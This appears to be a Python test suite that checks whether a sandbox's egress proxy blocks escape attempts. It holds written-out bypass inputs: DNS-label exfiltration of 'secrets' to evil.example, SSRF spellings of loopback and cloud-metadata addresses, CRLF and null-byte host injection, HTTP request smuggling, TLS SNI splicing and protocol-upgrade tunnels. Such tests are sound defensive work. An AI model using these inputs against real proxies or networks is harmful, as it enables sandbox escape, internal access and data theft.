"""Ways out of the sandbox. `good.example` is allowed; `evil.example` and all else is not.

Each case says what the proxy answered: a status of HTTP, `socks` and a reply of SOCKS, `alert` for TLS.
"""

import os
import socket
import ssl
import subprocess
import sys

from trying import Answers, case, main

PROXY = ("127.0.0.1", 4001)
DEADLINE = 30


def status(client):
    """What the answer begins with, by its protocol."""
    try:
        answer = client.recv(4096)
    except socket.timeout:
        return "no answer"
    except OSError:
        return "closed"
    if not answer:
        return "closed"
    if answer.startswith(b"HTTP/1.1 "):
        return answer[9:12].decode()
    if answer[0] == 21:
        return "alert %d" % answer[6]
    return repr(answer[:20])


def raw(request):
    with socket.create_connection(PROXY, DEADLINE) as client:
        client.sendall(request)
        return status(client)


def tunnel(target, port, first):
    """Through a tunnel to what is allowed: what the first bytes are answered with."""
    with socket.create_connection(PROXY, DEADLINE) as client:
        client.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (target, port, target, port))
        opened = status(client)
        if opened != "200":
            return opened
        client.sendall(first)
        return status(client)


def connect(target):
    return raw(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))


def get(target, host=None):
    return raw(b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, host or target))


def socks(command, address, port):
    with socket.create_connection(PROXY, DEADLINE) as client:
        client.sendall(b"\x05\x01\x00")
        client.recv(2)
        client.sendall(bytes([5, command, 0]) + address + port.to_bytes(2, "big"))
        try:
            return "socks %d" % client.recv(10)[1]
        except (OSError, IndexError):
            return "closed"


def by_name(name):
    return bytes([3, len(name)]) + name


def all_of(answers):
    return ", ".join(sorted(set(answers)))


@case
def allowed():
    """That the rest is refused for its own sake: the way is open."""
    return all_of([get(b"good.example"), get(b"x.wild.example"), tunnel(b"good.example", 80, b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n")])


@case
def without_the_proxy():
    said = Answers()
    for family, address in ((socket.AF_INET, "11.0.0.7"), (socket.AF_INET, "11.0.0.66"), (socket.AF_INET, "169.254.169.254"),
                            (socket.AF_INET6, "2606:4700::1")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(family, kind) as client:
                said.attempt(address, client.connect, (address, 80))
    return said


@case
def names_looked_up():
    """Data leaves in a name that somebody looks up, also where nothing is connected to."""
    said = []
    for name in ("good.example", "secret-of-1.evil.example"):
        try:
            socket.getaddrinfo(name, 80)
            said.append("GOT THROUGH: %s was looked up" % name)
        except socket.gaierror:
            said.append("no resolver")
    said += [connect(b"secret-of-2.evil.example:443"), get(b"secret-of-3.evil.example"), socks(1, by_name(b"secret-of-4.evil.example"), 443)]
    query = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x00\x00\x01\x00\x01"
    for server in (b"11.0.0.66", b"127.0.0.1", b"good.example"):
        said.append(connect(server + b":53"))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            try:
                client.sendto(query, (server.decode() if server != b"good.example" else "11.0.0.7", 53))
                client.settimeout(0.2)
                client.recv(100)
                said.append("GOT THROUGH: answered by %s" % server.decode())
            except OSError:
                pass
    return all_of(said)


@case
def names_off_the_list():
    return all_of(answer for name in (
        b"evil.example", b"EVIL.EXAMPLE", b"evil.example.", b"good.example.evil.example", b"evil-good.example", b"xgood.example",
        b"good.examplex", b"good.example.com", b"sub.good.example", b"wild.example", b"x.wild.example.evil.example", b"xwild.example",
        b"good.example@evil.example", b"evil.example:80@good.example.evil.example", b"*.wild.example", b"*",
    ) for answer in (get(name), connect(name + b":443"), socks(1, by_name(name), 443)))


@case
def one_name_in_other_letters():
    """The same name is the same target; that is no way round the list, and no way into it."""
    return all_of([get(b"GOOD.example"), get(b"good.example."), get(b"gOOd.eXAMPLE."), get(b"good.example", b"GOOD.EXAMPLE:80")])


@case
def ports_off_the_list():
    return all_of([connect(b"good.example:%d" % port) for port in (22, 25, 53, 8080, 65535)] +
                  [connect(b"good.example:0"), connect(b"good.example:65536"), connect(b"good.example:-1"), connect(b"good.example")])


@case
def null_bytes():
    return all_of([socks(1, by_name(b"good.example\0.evil.example"), 80), socks(1, by_name(b"evil.example\0good.example"), 80),
                   get(b"evil.example\0.good.example"), connect(b"evil.example\0:443"), get(b"good.example%00.evil.example"),
                   get(b"good.example", b"good.example\0evil.example")])


@case
def line_ends():
    """A name that would be a line of its own in what is sent on."""
    return all_of([
        connect(b"good.example:80\r\nX: y"), raw(b"CONNECT good.example:80 HTTP/1.1\rHost: evil.example\r\n\r\n"),
        socks(1, by_name(b"good.example\r\nevil.example"), 80), get(b"good.example%0d%0aevil.example"),
        raw(b"GET http://good.example/\rHost: evil.example HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        raw(b"GET http://good.example/\nX:y HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        raw(b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n evil.example\r\n\r\n"),
    ])


@case
def relayed_connect():
    """A tunnel within a tunnel, which the allowed server would carry on."""
    return all_of([
        tunnel(b"good.example", 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
        tunnel(b"good.example", 80, b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        tunnel(b"good.example", 443, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
        tunnel(b"good.example", 443, b"\x05\x01\x00"),
        connect(b"127.0.0.1:4001"), connect(b"127.0.0.1:4000"),
    ])


@case
def private_addresses():
    """Names that are allowed, and lead to what is not of the public network."""
    return all_of(answer for name in (
        b"private", b"loop", b"meta", b"link", b"carrier", b"multicast", b"broadcast", b"zero", b"loop6", b"mapped", b"nat64",
        b"sixtofour", b"teredo", b"unique", b"link6", b"own",
    ) for answer in (get(name + b".inner.example"), connect(name + b".inner.example:443")))


@case
def spellings_of_addresses():
    return all_of(answer for text in (
        b"127.0.0.1", b"127.1", b"0", b"0.0.0.0", b"2130706433", b"0x7f000001", b"0x7f.0.0.1", b"0177.0.0.1", b"127.0.0.1.",
        b"127.000.000.001", b"169.254.169.254", b"0xa9fea9fe", b"2852039166", b"10.0.0.1", b"192.168.0.1", b"172.16.0.1", b"100.64.0.1",
        b"224.0.0.1", b"255.255.255.255", b"[::1]", b"[::]", b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]", b"[::127.0.0.1]",
        b"[0:0:0:0:0:ffff:7f00:1]", b"[64:ff9b::7f00:1]", b"[64:ff9b:1::7f00:1]", b"[2002:7f00:1::]", b"[2001:0:7f00:1::]", b"[fe80::1]",
        b"[fe80::1%25lo]", b"[fc00::1]", b"[fd00:ec2::254]", b"[ff02::1]", b"localhost", b"LOCALHOST", b"localhost.localdomain",
        b"11.0.0.7", b"11.0.0.66",
    ) for answer in (get(text), connect(text + b":443")))


@case
def rebinding():
    """The name's first answer is public, all later ones are the host's loopback."""
    return ", then ".join(dict.fromkeys(get(b"rebind.example") for _ in range(4)))


@case
def both_kinds_of_answers():
    """One answer has a public address and the host's loopback: the first alone is used."""
    return all_of(get(b"both.example") for _ in range(6))


@case
def redirects():
    """The server sends the client elsewhere; that is another request."""
    said = []
    for to in ("http://evil.example/", "http://127.0.0.1:8099/", "http://169.254.169.254/latest/", "http://[::1]:8099/", "https://evil.example/"):
        ran = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "-L", "--max-time", "30",
                              "http://good.example/to?" + to], capture_output=True, text=True)
        said += [code for code in ran.stdout.split() if code != "000"]
    return all_of(said)


def hello(name):
    """The first bytes of a real client of TLS."""
    context, outgoing = ssl._create_unverified_context(), ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@case
def names_in_tls():
    other, own = hello("evil.example"), hello("good.example")
    return all_of([tunnel(b"good.example", 443, other), tunnel(b"good.example", 443, hello(None)), tunnel(b"good.example", 80, other),
                   tunnel(b"good.example", 443, hello("good.example.evil.example")),
                   tunnel(b"good.example", 443, own[:5] + other[5:]), tunnel(b"good.example", 443, b"\x16\x03\x01\x00\x00" + other)])


@case
def other_protocols_at_443():
    return all_of(tunnel(b"good.example", 443, first) for first in (
        b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n", b"SSH-2.0-x\r\n", b"\0\0\0\0\0\0", b"EHLO x\r\n", b"\x80\x2e\x01\x03\x01\0\0\0"))


@case
def websocket():
    """After a change of protocol nobody would look at what is said."""
    head = b"GET %s HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" \
           b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    return all_of([raw(head % b"http://good.example/upgrade"), tunnel(b"good.example", 80, head % b"/upgrade"),
                   raw((head % b"http://evil.example/upgrade").replace(b"Host: good", b"Host: evil")),
                   raw((head % b"http://good.example/upgrade").replace(b"websocket", b"h2c"))])


@case
def http2_authority():
    """A request of HTTP/2 names its host in a frame."""
    # The preface, empty settings, and a head: GET, http, /, :authority evil.example.
    head = b"\x82\x86\x84\x41\x0cevil.example"
    frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + len(head).to_bytes(3, "big") + b"\x01\x05\0\0\0\x01" + head
    return all_of([tunnel(b"good.example", 80, frames), tunnel(b"good.example", 443, frames), raw(frames)])


@case
def smuggled_requests():
    evil = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    start = b"POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
    return all_of([
        raw(start + b"Content-Length: 4\r\nContent-Length: 5\r\n\r\n" + evil),
        raw(start + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + evil),
        raw(start + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + evil),
        raw(start + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + evil),
        raw(start + b"Content-Length: 3 \r\nContent-Length: 0x3\r\n\r\n" + evil),
        raw(start + b"Content-Length : 3\r\n\r\n" + evil),
        raw(start + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + evil),
        raw(start + b"Host: evil.example\r\nContent-Length: 0\r\n\r\n"),
        raw(b"GET http://good.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        raw(b"GET http://good.example/ HTTP/1.1\r\nHost: good.example, evil.example\r\n\r\n"),
        raw(b"GET http://good.example@evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        raw(b"GET //evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    ])


@case
def smuggled_behind_a_body():
    """Both lengths: whichever counts, what follows is looked at as a request of its own, or never."""
    evil = b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    said = []
    for lengths in (b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nContent-Length: %d" % (5 + len(evil))):
        request = b"POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n" + lengths + b"\r\n\r\n0\r\n\r\n" + evil
        with socket.create_connection(PROXY, DEADLINE) as client:
            client.sendall(request)
            answer = b""
            try:
                while piece := client.recv(4096):
                    answer += piece
            except OSError:
                pass
            said += [line[9:12].decode() for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    return all_of(said)


@case
def huge_heads():
    return all_of([raw(b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nX: " + b"x" * (1 << 20) + b"\r\n\r\n"),
                   tunnel(b"good.example", 80, b"GET / HTTP/1.1\r\nHost: good.example\r\nX: " + b"x" * 100000 + b"\r\n\r\n")])


@case
def half_open():
    """Some hundred that begin and do not go on, or close one direction, beside one that is in a hurry."""
    held = []
    for number in range(300):
        client = socket.create_connection(PROXY, DEADLINE)
        client.sendall((b"CONNECT good.example:80 HTT", b"\x05", b"GET http://good.exam", b"\x05\x01\x00\x05\x01\x00\x03\xff")[number % 4])
        if number % 3 == 0:
            client.shutdown(socket.SHUT_WR)
        held.append(client)
        if number == 100:
            # Fewer than the proxy serves at once.
            said = [get(b"good.example")]
    for client in held:
        client.close()
    return all_of(said + [get(b"good.example")])


@case
def other_commands_of_socks():
    return all_of([socks(2, by_name(b"good.example"), 80), socks(3, by_name(b"good.example"), 53), socks(1, b"\x05abc", 80),
                   socks(1, b"\x01\x7f\0\0\x01", 80), socks(1, b"\x04" + bytes(15) + b"\x01", 80),
                   socks(1, b"\x04" + bytes(10) + b"\xff\xff\x7f\0\0\x01", 80), socks(1, by_name(b""), 80)])


main()
